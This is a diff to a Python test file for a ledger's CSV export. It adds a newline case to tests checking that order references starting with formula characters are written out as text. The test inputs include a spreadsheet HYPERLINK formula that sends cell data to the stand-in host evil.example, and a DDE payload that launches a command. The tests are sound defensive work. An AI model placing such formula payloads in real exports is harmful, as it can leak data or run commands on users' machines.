@@ -222,7 +222,7 @@ async def test_the_csv_parses_back_to_the_rows_of_the_json(ledger, statements, c
 
 
 @pytest.mark.parametrize("reference", ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', "+254700000000",
-                                       "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+                                       "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"])
 async def test_a_formula_in_an_order_reference_is_written_as_text(ledger, statements, channel, reference):
     pid = str(uuid.uuid4())
     await ledger.handle_batch([requested(channel, pid, order_reference=reference)])  # control characters: Failed
@@ -238,7 +238,7 @@ async def test_a_formula_in_an_order_reference_is_written_as_text(ledger, statem
 def test_no_csv_text_cell_starts_a_formula_and_only_the_prefix_is_added(text):
     cells = csv_cells((text, text, "Settled", -5, None, None, datetime.now(UTC), None, text))
     for cell in (cells[0], cells[1], cells[8]):
-        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
         assert cell == text or cell == "'" + text
     assert cells[3] == -5  # an amount is a number, never prefixed
 
